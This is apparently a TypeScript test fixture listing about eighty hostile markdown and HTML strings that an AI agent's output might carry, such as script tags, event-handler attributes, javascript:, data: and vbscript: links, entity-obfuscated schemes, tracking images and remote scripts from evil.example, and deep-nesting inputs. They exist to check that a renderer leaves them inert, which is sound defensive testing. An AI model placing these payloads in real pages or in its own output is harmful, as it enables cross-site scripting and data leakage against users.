/* eslint-disable no-script-url */ // Hostile URLs are the test data.

/** The one host the hostile tests allow images from. */
export const ALLOWED_HOST = 'images.example.com';
const F = '```';

/**
 * Agent output trying to get script, active content or a request out of the
 * renderer. Every entry must render inert, settled or streaming.
 */
export const HOSTILE_MARKDOWN: string[] = [
  // Raw HTML, block and inline.
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  'Inline <script>alert(1)</script> in a paragraph',
  '<scr<script>ipt>alert(1)</script>',
  '<!-- --><script>alert(1)</script>',
  '<div>\n\n<script>alert(1)</script>\n\n</div>',
  '<img src=x onerror=alert(1)>',
  'Text <img src=x onerror=alert(1)> more text',
  '<img src="javascript:alert(1)">',
  `<img src="https://${ALLOWED_HOST}/a.png" onerror="alert(1)">`,
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  'A <svg/onload=alert(1)> inline',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<style>body { display: none }</style>',
  'Inline <style>*{color:red}</style> style',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="https://ok.example" onclick="alert(1)">click</a>',
  '<div onmouseover="alert(1)">hover me</div>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<template><script>alert(1)</script></template>',
  // Markdown links.
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click]( javascript:alert(1) )',
  '[click](javascript:alert(1) "title")',
  '[click](<java\tscript:alert(1)>)',
  '[click](<java\nscript:alert(1)>)',
  '[click](javascript&#58;alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))',
  '[click](javascript&colon;alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](data:text/html,<script>alert(1)</script>)',
  '[click](vbscript:msgbox(1))',
  '[click](//evil.example/x)',
  '[x](https://ok.example "title\\" onmouseover=\\"alert(1)")',
  // Autolinks.
  '<javascript:alert(1)>',
  '<JAVASCRIPT:alert(1)>',
  '<data:text/html,alert(1)>',
  '<vbscript:msgbox(1)>',
  'www.example.com/javascript:alert(1)',
  // Reference links, definition in the same block and in another block.
  '[xss]: javascript:alert(1)\n[click][xss]',
  '[xss]: <data:text/html,alert(1)>\n[click][xss] and [xss]',
  '[click][xss]\n\n[xss]: vbscript:msgbox(1)',
  // Images.
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](https://evil.example/track.png)',
  `![x](https://${ALLOWED_HOST}@evil.example/a.png)`,
  `![x](https://${ALLOWED_HOST}.evil.example/a.png)`,
  `![x](https://${ALLOWED_HOST}/a.png" onerror="alert(1))`,
  `[![x](https://${ALLOWED_HOST}/a.png)](javascript:alert(1))`,
  '[![x](https://evil.example/a.png)](https://ok.example/)',
  '[img]: javascript:alert(1)\n![x][img]',
  '![x](vbscript:msgbox(1))',
  // Entities and code.
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '`<script>alert(1)</script>`',
  `${F}html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n${F}`,
  `${F}constructor\n<svg onload=alert(1)>\n${F}`,
  `${F}__proto__\nx\n${F}`,
  `${F}javascript:alert(1)\nx\n${F}`,
  // Nesting deep enough to overflow the parser's stack.
  `${'> '.repeat(3000)}x`,
  `${'- '.repeat(3000)}x`,
  `${'1. '.repeat(2000)}[c](javascript:alert(1))`,
  // Footnotes and tables carrying payloads.
  'See[^x]\n\n[^x]: <script>alert(1)</script> [c](javascript:alert(1))',
  '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [c](javascript:alert(1)) |',
];
